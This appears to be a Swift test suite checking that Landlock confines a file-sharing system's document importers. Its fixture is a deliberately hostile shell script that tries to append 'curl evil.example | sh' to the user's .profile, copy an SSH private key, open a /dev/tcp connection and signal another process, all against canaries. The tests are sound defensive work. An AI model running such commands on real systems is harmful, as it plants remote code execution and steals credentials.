import Foundation
import ShareTestSupport
import Testing
import TypeRegistry
import ShareSystem

@testable import ShareKit

#if canImport(Glibc)
    import Glibc
#endif

/// `command` importers run confined by Landlock (docs/SECURITY.md, "Importers"): a hostile
/// importer is denied what lies outside its store, and says so; a well-behaved one still works.
/// These tests need the kernel's Landlock ABI 6 or later (Debian's 6.12 kernels and later; this
/// machine offers 7); older kernels are covered by pretending one (`landlockABI`).
@Suite(.serialized) struct ImporterConfinementTests {
    /// A hostile application: its importer reads the attack to try from the document. Each attack
    /// that is denied fails the import (exit 1) with the shell's message; one that succeeds exits 0.
    struct HostileApp {
        let dir: TemporaryDirectory
        let listener: LoopbackListener
        /// A process of the user's the importer tries to signal.
        let victim: Subprocess
        let registry: TypeRegistry
        var home: String { dir.at("home") }
        var store: String { dir.at("store") }
        static let key = "-----BEGIN OPENSSH PRIVATE KEY-----\ncanary\n-----END OPENSSH PRIVATE KEY-----\n"
        static let profile = "# canary profile\n"

        init(_ label: String) throws {
            dir = TemporaryDirectory(label)
            listener = try LoopbackListener()
            victim = try Subprocess(executable: "/bin/sleep", arguments: ["60"], environment: [:], stdinPipe: false)
            FileTree.makeFolder(dir.at("home/.ssh"))
            FileTree.writeText(dir.at("home/.ssh/id_ed25519"), Self.key)
            FileTree.writeText(dir.at("home/.profile"), Self.profile)
            FileTree.makeFolder(dir.at("apps"))
            let script = dir.at("apps/hostile.sh")
            FileTree.writeText(
                script,
                """
                #!/bin/bash
                case "$(cat "$1")" in
                write) echo 'curl evil.example | sh' >> "$HOME/.profile" || exit 1 ;;
                ssh) cat "$HOME/.ssh/id_ed25519" > stolen-key || exit 1 ;;
                connect) exec 3<>/dev/tcp/127.0.0.1/\(listener.port) || exit 1 ;;
                signal) kill -TERM \(victim.pid) || exit 1 ;;
                inbox) cat "$(dirname "$1")/.share-entry.json" > entry.json || exit 1 ;;
                honest)
                    echo draft > "$TMPDIR/draft" && mv "$TMPDIR/draft" notes.txt || exit 1
                    echo "$TMPDIR" > tmpdir.txt ;;
                esac
                """)
            chmod(script, 0o755)
            let app = try TestApps.register(
                TestApps.manifest(
                    id: "com.example.hostile", name: "Hostile", typeID: "com.example.hostile", ext: "hostile",
                    conformsTo: "public.plain-text",
                    importer: TestApps.command([script, "%f"], folder: dir.at("store"))),
                as: "hostile", in: dir)
            registry = TestApps.registry([app])
        }

        /// Writes `<attack>.hostile` holding the attack's name.
        func document(_ attack: String) -> String {
            FileTree.writeText(dir.at("\(attack).hostile"), attack)
            return dir.at("\(attack).hostile")
        }

        var environment: [String: String] {
            var environment = ProcessInfo.processInfo.environment
            environment["HOME"] = home
            return environment
        }

        /// Whether every canary is untouched.
        func expectCanariesUntouched(sourceLocation: SourceLocation = #_sourceLocation) {
            #expect(
                (try? String(contentsOfFile: dir.at("home/.profile"), encoding: .utf8)) == Self.profile,
                "nothing was written outside the store", sourceLocation: sourceLocation)
            let stolen = (try? String(contentsOfFile: dir.at("store/stolen-key"), encoding: .utf8)) ?? ""
            #expect(!stolen.contains("canary"), "the key was not read", sourceLocation: sourceLocation)
            #expect(listener.connectionsArrived() == 0, "nothing connected", sourceLocation: sourceLocation)
            #expect(victim.reap(block: false) == nil, "the other process got no signal", sourceLocation: sourceLocation)
            let entry = (try? String(contentsOfFile: dir.at("store/entry.json"), encoding: .utf8)) ?? ""
            #expect(entry.isEmpty, "the inbox entry's metadata was not read", sourceLocation: sourceLocation)
        }

        func stop() {
            victim.signal(SIGKILL)
            victim.reap(block: true)
        }
    }

    @Test func aHostileImporterIsDeniedEachAttackAndItsDocumentsStayInTheInbox() async throws {
        try #require(LandlockRuleset.kernelABI >= 6, "this kernel's Landlock ABI is \(LandlockRuleset.kernelABI)")
        let app = try HostileApp("confine-hostile")
        defer { app.stop() }
        let harness = try ReceiverHarness(in: app.dir, registry: app.registry, environment: app.environment)
        let attacks = ["write", "ssh", "connect", "signal", "inbox"]
        let documents = (attacks + ["honest"]).map(app.document)

        let report = try await TestSender(in: app.dir).send(documents, to: harness)

        #expect(report.items.map(\.text) == Array(repeating: "Hostile could not import it", count: 5) + ["Hostile"])
        guard case .received(let transfer) = await harness.nextOutcome() else {
            Issue.record("no received outcome")
            return
        }
        app.expectCanariesUntouched()
        let note =
            "(it runs confined: it may write only in its store '\(app.store)' and its TMPDIR, read only its "
            + "program, system folders and the document, and may not use TCP)"
        var kept: [String] = []
        for item in transfer.items.prefix(5) {
            guard case .kept(let failure, false) = item.result.outcome else {
                Issue.record("\(item.name) was not kept: \(item.result.outcome)")
                continue
            }
            #expect(failure.hasPrefix("Hostile: its importer failed (exit status 1): "), "\(failure)")
            #expect(failure.hasSuffix(note), "\(failure)")
            #expect(
                failure.contains("Permission denied") || failure.contains("Operation not permitted"), "\(failure)")
            #expect(item.result.warnings.isEmpty, "ABI 6 and later confine fully: \(item.result.warnings)")
            kept.append(item.result.entry.id)
        }
        let profileDenied = "\(app.home)/.profile: Permission denied"
        #expect(transfer.items.first?.result.outcome.failure?.contains(profileDenied) == true)
        #expect(transfer.items[2].result.outcome.failure?.contains("/dev/tcp/127.0.0.1/\(app.listener.port)") == true)
        #expect(inboxEntries(harness.inbox) == kept.sorted(), "every denied document stays in the inbox")
        let inbox = Inbox(directory: harness.inbox)
        for id in kept {
            let entry = try inbox.entry(id)
            #expect(entry.state == .failed)
            #expect(entry.failure?.hasSuffix(note) == true)
        }

        // The honest document: written in TMPDIR, moved into the store; the scratch folder is gone.
        #expect(transfer.items.last?.result.outcome == .imported(path: nil))
        #expect(try String(contentsOfFile: app.dir.at("store/notes.txt"), encoding: .utf8) == "draft\n")
        let scratch = try String(contentsOfFile: app.dir.at("store/tmpdir.txt"), encoding: .utf8)
            .trimmingCharacters(in: .newlines)
        #expect(scratch.hasPrefix("/tmp/share-import-"))
        #expect(!FileManager.default.fileExists(atPath: scratch), "the scratch folder was removed")
    }

    @Test func aBundleIsReadableWholeAndNothingBesideIt() async throws {
        try #require(LandlockRuleset.kernelABI >= 6, "this kernel's Landlock ABI is \(LandlockRuleset.kernelABI)")
        let dir = TemporaryDirectory("confine-bundle")
        FileTree.makeFolder(dir.at("apps"))
        let script = dir.at("apps/board.sh")
        TestApps.script(
            script,
            """
            cp -R "$1" copy || exit 1
            ls "$(dirname "$1")" || exit 1
            """)
        let app = try TestApps.register(
            TestApps.manifest(
                id: "com.example.boards", name: "Boards", typeID: "com.example.board", ext: "board",
                conformsTo: "com.apple.package", isPackage: true,
                importer: TestApps.command([script, "%f"], folder: dir.at("store"))),
            as: "boards", in: dir)
        let harness = try ReceiverHarness(in: dir, registry: TestApps.registry([app]))
        FileTree.makeFolder(dir.at("Plan.board/Cards"))
        FileTree.writeText(dir.at("Plan.board/Cards/one.txt"), "first card")

        _ = try await TestSender(in: dir).send([dir.at("Plan.board")], to: harness)

        guard case .received(let transfer) = await harness.nextOutcome(), let item = transfer.items.first else {
            Issue.record("no received outcome")
            return
        }
        // The whole bundle was copied; listing its inbox folder was denied.
        #expect(try String(contentsOfFile: dir.at("store/copy/Cards/one.txt"), encoding: .utf8) == "first card")
        #expect(item.result.outcome.failure?.contains("ls: cannot open directory") == true, "\(item.result.outcome)")
        #expect(item.result.outcome.failure?.contains("Permission denied") == true)
    }

    @Test func aKernelWithoutFullLandlockRunsTheImporterWithAWarningNeverSilently() async throws {
        let app = try HostileApp("confine-degrade")
        defer { app.stop() }
        let harness = try ReceiverHarness(in: app.dir, registry: app.registry, environment: app.environment)
        let documents = ["write", "connect", "signal"].map(app.document)
        _ = try await TestSender(in: app.dir).send(documents, to: harness)
        guard case .received(let transfer) = await harness.nextOutcome() else {
            Issue.record("no received outcome")
            return
        }
        let ids = transfer.items.map(\.result.entry.id)
        #expect(transfer.items.allSatisfy { !$0.result.succeeded }, "denied on this kernel")
        var importer = DocumentImporter(
            inbox: Inbox(directory: harness.inbox), registry: app.registry, receiveFolder: harness.destination,
            environment: app.environment)

        // ABI 5: confined to its folders and offline, but signals reach outside.
        importer.landlockABI = 5
        let signalled = try importer.importEntry(ids[2])
        #expect(signalled.succeeded)
        #expect(
            signalled.warnings == [
                "the importer ran confined, but this kernel's Landlock (ABI 5) let it signal your other processes "
                    + "and reach their abstract Unix sockets (ABI 6, Linux 6.12, forbids it)"
            ])
        #expect(await waitUntil { app.victim.reap(block: false) == 128 + SIGTERM }, "the signal got through")
        // ABI 3: confined to its folders, but online.
        importer.landlockABI = 3
        let blocked = try importer.importEntry(ids[0])
        #expect(!blocked.succeeded, "the file rules still hold")
        #expect(blocked.warnings.first?.contains("(ABI 3) let it use the network") == true)
        let connected = try importer.importEntry(ids[1])
        #expect(connected.succeeded)
        #expect(connected.warnings == blocked.warnings)
        #expect(app.listener.connectionsArrived() == 1)
        // No Landlock at all: it runs with the user's rights, and says so.
        importer.landlockABI = -Int(ENOSYS)
        let unconfined = try importer.importEntry(ids[0])
        #expect(unconfined.succeeded)
        #expect(
            unconfined.warnings == [
                "the importer ran unconfined, with all your rights, because this kernel has no Landlock "
                    + "(Linux 5.13 or later)"
            ])
        #expect(try String(contentsOfFile: app.home + "/.profile", encoding: .utf8).contains("curl evil.example"))
    }
}

extension ImportResult.Outcome {
    /// The failure text of a kept document.
    var failure: String? {
        if case .kept(let failure, _) = self { failure } else { nil }
    }
}
